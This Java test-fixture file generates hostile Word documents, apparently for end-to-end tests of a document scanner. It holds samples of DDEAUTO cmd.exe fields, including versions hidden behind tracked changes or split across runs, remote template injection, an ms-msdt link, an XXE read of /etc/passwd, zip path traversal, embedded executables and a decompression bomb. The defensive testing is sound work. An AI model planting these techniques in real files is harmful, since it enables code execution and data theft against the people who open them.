package io.zizhi.e2e.hostile;

import static io.zizhi.e2e.hostile.FileParts.join;
import static io.zizhi.e2e.hostile.FileParts.latin;
import static java.nio.charset.StandardCharsets.UTF_16LE;

import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.util.Arrays;
import java.util.Map;
import java.util.function.Supplier;

/** Hostile Word files of both generations. */
final class WordFiles {

    private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String STORY = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    private static final String WORD =
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";

    static final Map<String, Supplier<byte[]>> ALL = Map.ofEntries(
            Map.entry("docx-macros", () -> docx(WORD, "", "word/vbaProject.bin", new byte[100])),
            Map.entry("docx-macro-type", () -> docx("application/vnd.ms-word.document.macroEnabled.main+xml", "")),
            Map.entry("docx-template", () -> related("attachedTemplate", "https://example.com/evil.dotm")),
            Map.entry("docx-remote-picture", () -> related("image", "file://example.com/share/a.png")),
            Map.entry("docx-web-link", () -> related("hyperlink", "https://example.com/")),
            Map.entry("docx-ordinary", OrdinaryDocx::bytes),
            Map.entry("docx-link-to-file", () -> related("hyperlink", "file:///C:/Windows/notepad.exe")),
            Map.entry("docx-link-to-share", () -> related("hyperlink", "\\\\example.com\\share\\a.docx")),
            Map.entry("docx-link-to-program", () -> related("hyperlink", "ms-msdt:/id PCWDiagnostic")),
            Map.entry(
                    "docx-template-as-link", () -> related("attachedTemplate/hyperlink", "https://example.com/a.dotm")),
            Map.entry("docx-dde-field", () -> text(field(code("DDEAUTO cmd.exe \"/k calc\"")))),
            Map.entry("docx-dde-field-split", () -> text(field(code("DD") + code("EAU") + code("TO cmd.exe")))),
            Map.entry("docx-dde-field-in-footer", () -> footer("footer1.xml", "application/xml")),
            Map.entry("docx-dde-field-behind-change", WordFiles::changedField),
            Map.entry("docx-dde-field-behind-alternative", WordFiles::alternativeField),
            Map.entry("docx-field-in-keyword", () -> text(field(field(code("REF a")) + code(" cmd.exe")))),
            Map.entry(
                    "docx-picture-field",
                    () -> text(simple("INCLUDEPICTURE &quot;http://example.com/a.png&quot; \\d"))),
            Map.entry("docx-text-field", () -> text(field(code("INCLUDETEXT \"\\\\\\\\example.com\\\\share\"")))),
            Map.entry("docx-link-field", () -> text(field(code("HYPERLINK \\o \"a tip\" \"file://example.com/a\"")))),
            Map.entry("docx-link-field-to-share", () -> text(field(code("HYPERLINK \\\\\\\\example.com\\\\share")))),
            Map.entry("docx-template-on-share", () -> related("attachedTemplate", "file://example.com/share/a.dotm")),
            Map.entry("docx-web-video", () -> text("<p:webVideoPr xmlns:p='p' embeddedHtml='a'/>")),
            Map.entry("docx-dde-field-typed-as-picture", () -> footer("footer1.xml", "image/png")),
            Map.entry("docx-dde-field-in-picture", () -> footer("footer1.png", "image/png")),
            Map.entry("docx-linked-drawing", () -> text("<v:imagedata xmlns:v='v' src='http://example.com/a.png'/>")),
            Map.entry("docx-mail-merge", WordFiles::mailMerge),
            Map.entry(
                    "docx-ribbon",
                    () -> unusual("http://schemas.microsoft.com/office/2006/relationships/ui/extensibility")),
            Map.entry(
                    "docx-add-in",
                    () -> unusual("http://schemas.microsoft.com/office/2011/relationships/webextension")),
            Map.entry("docx-program", () -> docx(WORD, "", "word/a.exe", program())),
            Map.entry("docx-program-as-picture", () -> docx(WORD, "", "word/media/a.png", program())),
            Map.entry("docx-document", () -> docx(WORD, "", "word/a.docx", docx(WORD, ""))),
            Map.entry(
                    "docx-macro-type-of-part",
                    () -> docx(
                            WORD + "'/><Override PartName='/a' ContentType='application/vnd.ms-office.vbaProject", "")),
            Map.entry("docx-object", () -> docx(WORD, "", "word/embeddings/oleObject1.bin", new byte[100])),
            Map.entry(
                    "docx-html-part",
                    () -> docx(WORD, "<Relationship Id='a' Type='" + RELATIONS + "aFChunk' Target='a.htm'/>")),
            Map.entry("docx-bomb", () -> docx(WORD, "", "word/media/a.bmp", new byte[80_000_000])),
            Map.entry("docx-many-parts", WordFiles::manyParts),
            Map.entry("docx-outside-path", () -> docx(WORD, "", "../../evil.sh", FileParts.SCRIPT)),
            Map.entry("docx-entity", () -> docx(WORD, "", "word/_rels/b.xml.rels", entity())),
            Map.entry("docx-script-behind", () -> join(docx(WORD, ""), FileParts.SCRIPT)),
            Map.entry("docx-gap", WordFiles::gap),
            Map.entry("doc-macros", () -> doc("Macros", 1)),
            Map.entry("doc-object", () -> doc("_1234567890", 1)),
            Map.entry("doc-template", () -> withText("http://example.com/evil.dotm")),
            Map.entry("doc-dde-field", () -> withText("\u0013 DDEAUTO cmd.exe \u0014\u0015")),
            Map.entry("doc-link-to-program", () -> withText("\u0013 HYPERLINK \"ms-msdt:/id\" \u0014link\u0015")),
            Map.entry("doc-ordinary-fields", WordFiles::ordinaryFields),
            Map.entry("doc-password", WordFiles::password),
            Map.entry("doc-encrypted-package", () -> doc("EncryptedPackage", 2)),
            Map.entry("doc-program-behind", () -> join(doc("1Table", 2), latin("MZ"), new byte[4_000])));

    private static final int SECTOR = 512;

    private WordFiles() {}

    /**
     * Returns a DOCX.
     *
     * @param type media type of its text
     * @param relation element that relates the text to something else
     * @param more names and contents of further parts in turn
     */
    static byte[] docx(String type, String relation, Object... more) {
        Object[] parts = {
            "[Content_Types].xml",
            latin(
                    "<Types><Default Extension='xml' ContentType='application/xml'/><Default Extension='rels' ContentType='"
                            + "application/vnd.openxmlformats-package.relationships+xml'/><Default Extension='png' ContentType='"
                            + "image/png'/><Default Extension='bmp' ContentType='image/bmp'/>"
                            + "<Override PartName='/word/document.xml' ContentType='" + type + "'/></Types>"),
            "_rels/.rels",
            latin("<Relationships><Relationship Id='r' Type='" + RELATIONS
                    + "officeDocument' Target='word/document.xml'/></Relationships>"),
            "word/document.xml",
            story("<w:r><w:t>Material</w:t></w:r>"),
            "word/_rels/document.xml.rels",
            latin("<Relationships>" + relation + "</Relationships>")
        };
        Object[] all = Arrays.copyOf(parts, parts.length + more.length);
        System.arraycopy(more, 0, all, parts.length, more.length);
        return FileParts.zip(all);
    }

    /** @param content what its only paragraph contains */
    static byte[] story(String content) {
        return latin("<w:document xmlns:w='" + STORY + "'><w:body><w:p>" + content + "</w:p></w:body></w:document>");
    }

    /** Returns a DOCX with another text. */
    private static byte[] text(String content) {
        return docx(WORD, "", "word/text.xml", story(content));
    }

    /** Returns a field; its code is in runs. */
    static String field(String code) {
        return mark("begin") + code + mark("separate") + "<w:r><w:t>1</w:t></w:r>" + mark("end");
    }

    static String mark(String type) {
        return "<w:r><w:fldChar w:fldCharType='" + type + "'/></w:r>";
    }

    /** Returns a run with a piece of the code of a field. */
    static String code(String code) {
        return "<w:r><w:instrText xml:space='preserve'>" + code + "</w:instrText></w:r>";
    }

    static String simple(String code) {
        return "<w:fldSimple w:instr=' " + code + " '><w:r><w:t>1</w:t></w:r></w:fldSimple>";
    }

    /** @param type media type that the footer declares */
    private static byte[] footer(String name, String type) {
        return docx(
                WORD + "'/><Override PartName='/word/" + name + "' ContentType='" + type,
                "<Relationship Id='a' Type='" + RELATIONS + "footer' Target='" + name + "'/>",
                "word/" + name,
                latin("<w:ftr xmlns:w='" + STORY + "'><w:p>" + field(code("dde excel")) + "</w:p></w:ftr>"));
    }

    /** Returns a field that shows a page number. Once the deletion of its first word is accepted, it runs a program. */
    private static byte[] changedField() {
        String deleted = "<w:del w:author='a'><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>";
        return text(field(deleted + code("DDEAUTO cmd.exe")));
    }

    /** A reader that knows no such alternative takes the rest alone. */
    private static byte[] alternativeField() {
        String unknown = "<m:AlternateContent xmlns:m='http://schemas.openxmlformats.org/markup-compatibility/2006'>"
                + "<m:Choice Requires='unknown'>" + code("PAGE ") + "</m:Choice></m:AlternateContent>";
        return text(field(unknown + code("DDEAUTO cmd.exe")));
    }

    private static byte[] mailMerge() {
        return docx(
                WORD,
                "<Relationship Id='a' Type='" + RELATIONS + "settings' Target='settings.xml'/>",
                "word/settings.xml",
                latin("<w:settings xmlns:w='" + STORY + "'><w:mailMerge><w:query w:val='SELECT 1'/></w:mailMerge>"
                        + "</w:settings>"));
    }

    /** Returns a DOCX with a part of a kind that Word shows as buttons or runs in a window beside the text. */
    private static byte[] unusual(String relation) {
        return docx(
                WORD,
                "<Relationship Id='a' Type='" + relation + "' Target='part.xml'/>",
                "word/part.xml",
                latin("<part/>"));
    }

    private static byte[] program() {
        return join(latin("MZ"), new byte[500]);
    }

    /** Page number, date and a link, as Word writes them. */
    private static byte[] ordinaryFields() {
        return withText("\u0013 PAGE \u00141\u0015\u0013 DATE \\@ \"yyyy-MM-dd\" \u0014\u0015"
                + "\u0013 HYPERLINK \"https://example.com/\" \\o \"file: a tip\" \u0014a\u0015");
    }

    private static byte[] related(String kind, String target) {
        return docx(
                WORD,
                "<Relationship Id='a' Type='" + RELATIONS + kind + "' Target='" + target + "' TargetMode='External'/>");
    }

    private static byte[] manyParts() {
        Object[] parts = new Object[2 * 20_000];
        for (int part = 0; part < parts.length; part += 2) {
            parts[part] = "word/" + part;
            parts[part + 1] = new byte[0];
        }
        return docx(WORD, "", parts);
    }

    private static byte[] entity() {
        return latin("<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><Relationships>&e;</Relationships>");
    }

    /** Hides bytes between the last part and the directory, and corrects the position of the directory. */
    private static byte[] gap() {
        byte[] docx = docx(WORD, "");
        int end = docx.length - 22;
        int directory = ByteBuffer.wrap(docx).order(ByteOrder.LITTLE_ENDIAN).getInt(end + 16);
        byte[] hidden = FileParts.inserted(docx, directory, new byte[1_000]);
        ByteBuffer.wrap(hidden).order(ByteOrder.LITTLE_ENDIAN).putInt(end + 1_000 + 16, directory + 1_000);
        return hidden;
    }

    /**
     * Returns a DOC of four sectors: header, table of sectors, directory, text.
     *
     * @param entry name of another entry of the directory
     * @param type its type: 1 folder, 2 stream
     */
    static byte[] doc(String entry, int type) {
        ByteBuffer doc = ByteBuffer.allocate(4 * SECTOR).order(ByteOrder.LITTLE_ENDIAN);
        doc.put(latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1"));
        doc.putShort(24, (short) 0x3e).putShort(26, (short) 3).putShort(28, (short) 0xfffe);
        doc.putShort(30, (short) 9)
                .putShort(32, (short) 6)
                .putInt(44, 1)
                .putInt(48, 1)
                .putInt(56, 4_096);
        doc.putInt(60, -2).putInt(68, -2);
        for (int sector = 0; sector < 109; sector++) {
            doc.putInt(76 + 4 * sector, sector == 0 ? 0 : -1);
        }
        for (int sector = 0; sector < SECTOR / 4; sector++) {
            doc.putInt(SECTOR + 4 * sector, sector == 0 ? -3 : sector < 3 ? -2 : -1);
        }
        entry(doc, 0, "Root Entry", 5, -2);
        entry(doc, 1, "WordDocument", 2, 2);
        entry(doc, 2, entry, type, 2);
        doc.putShort(3 * SECTOR, (short) 0xa5ec);
        return doc.array();
    }

    private static void entry(ByteBuffer doc, int number, String name, int type, int sector) {
        int at = 2 * SECTOR + 128 * number;
        byte[] letters = name.getBytes(UTF_16LE);
        doc.put(at, letters).putShort(at + 64, (short) (letters.length + 2)).put(at + 66, (byte) type);
        doc.putInt(at + 68, -1).putInt(at + 72, -1).putInt(at + 76, -1).putInt(at + 116, sector);
    }

    private static byte[] withText(String text) {
        byte[] doc = doc("1Table", 2);
        byte[] letters = text.getBytes(UTF_16LE);
        System.arraycopy(letters, 0, doc, 3 * SECTOR + 101, letters.length);
        return doc;
    }

    private static byte[] password() {
        byte[] doc = doc("1Table", 2);
        doc[3 * SECTOR + 11] = 1;
        return doc;
    }
}
